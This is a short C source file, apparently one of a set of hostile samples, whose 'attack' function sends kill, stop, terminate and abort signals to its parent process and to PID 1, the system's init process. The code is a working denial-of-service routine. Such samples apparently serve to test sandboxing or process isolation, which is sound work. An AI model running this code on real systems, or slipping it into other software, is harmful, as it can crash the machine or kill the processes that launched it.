/* Kills and stops its parent and the first of all processes. */
#include "attack.h"
static void attack(void) {
    int signals[] = {SIGKILL, SIGSTOP, SIGTERM, SIGCHLD, SIGABRT};
    for (int i = 0; i < 5; i++) {
        kill(getppid(), signals[i]);
        kill(1, signals[i]);
    }
}
